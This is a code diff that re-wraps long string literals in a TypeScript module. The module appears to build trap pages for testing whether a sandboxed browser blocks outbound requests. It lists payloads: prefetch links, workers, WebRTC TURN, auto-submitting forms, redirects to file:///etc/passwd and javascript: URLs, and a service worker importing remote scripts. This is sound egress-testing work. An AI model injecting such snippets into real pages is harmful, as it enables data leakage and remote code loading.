@@ -11,7 +11,8 @@ const subresources = (to: string): readonly string[] => [
   ...['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon'].map(
     (rel) => `<link rel="${rel}" href="http://${to}/${rel}" as="script">`,
   ),
-  `<script type="speculationrules">{"prefetch":[{"urls":["http://${to}/speculated"]}],"prerender":[{"urls":["http://${to}/prerendered"]}]}</script>`,
+  '<script ' +
+    `type="speculationrules">{"prefetch":[{"urls":["http://${to}/speculated"]}],"prerender":[{"urls":["http://${to}/prerendered"]}]}</script>`,
   `<iframe src="http://${to}/iframe" title="f"></iframe>`,
   `<object data="http://${to}/object"></object>`,
   `<embed src="http://${to}/embed">`,
@@ -38,7 +39,9 @@ const scripted = (to: string): readonly string[] => [
   `new Worker(URL.createObjectURL(new Blob(['fetch("http://${to}/worker-fetch")'])))`,
   `new SharedWorker(URL.createObjectURL(new Blob(['fetch("http://${to}/shared-worker-fetch")'])))`,
   `const w = new WebTransport("https://${to}/webtransport"); w.ready.catch(() => 0)`,
-  `const p = new RTCPeerConnection({ iceServers: [{ urls: ["stun:${to}", "turn:${to}?transport=udp", "turn:${to}?transport=tcp"], username: "u", credential: "c" }] }); p.createDataChannel("d"); p.createOffer().then((o) => p.setLocalDescription(o))`,
+  `const p = new RTCPeerConnection({ iceServers: [{ urls: ["stun:${to}", "turn:${to}?transport=udp", ` +
+    `"turn:${to}?transport=tcp"], username: "u", credential: "c" }] }); p.createDataChannel("d"); ` +
+    'p.createOffer().then((o) => p.setLocalDescription(o))',
   `navigator.serviceWorker.register("/service-worker.js")`,
 ];
 
@@ -46,10 +49,12 @@ const scripted = (to: string): readonly string[] => [
 const departures = (to: string): readonly string[] => [
   `<meta http-equiv="refresh" content="0;url=http://${to}/refresh">`,
   `<script>location = "http://${to}/location"</script>`,
-  `<form id="f" method="post" action="http://${to}/form"><input name="a"></form><script>document.getElementById("f").submit()</script>`,
+  `<form id="f" method="post" action="http://${to}/form"><input ` +
+    'name="a"></form><script>document.getElementById("f").submit()</script>',
   `<script>location = "view-source:http://${to}/source"</script>`,
   `<script>location = "data:text/html,<img src=http://${to}/in-data>"</script>`,
-  `<script>location = URL.createObjectURL(new Blob(['<img src="http://${to}/in-blob">'], { type: "text/html" }))</script>`,
+  `<script>location = URL.createObjectURL(new Blob(['<img src="http://${to}/in-blob">'], { type: "text/html" ` +
+    '}))</script>',
   `<script>location = "file:///etc/passwd"</script>`,
   `<script>location = "chrome://version"</script>`,
   `<script>location = "javascript:fetch('http://${to}/javascript')"</script>`,
@@ -80,4 +85,6 @@ export const trapPage = (hosts: readonly string[], redirecting: readonly string[
 
 /** A worker of the page's own that passes everything on to where it must not go. */
 export const trapServiceWorker = (to: string): string =>
-  `self.addEventListener("install", (e) => { self.skipWaiting(); e.waitUntil(fetch("http://${to}/service-worker", { mode: "no-cors" }).catch(() => 0)); }); try { importScripts("http://${to}/sw-import"); } catch {}`;
+  'self.addEventListener("install", (e) => { self.skipWaiting(); ' +
+  `e.waitUntil(fetch("http://${to}/service-worker", { mode: "no-cors" }).catch(() => 0)); }); try { ` +
+  `importScripts("http://${to}/sw-import"); } catch {}`;
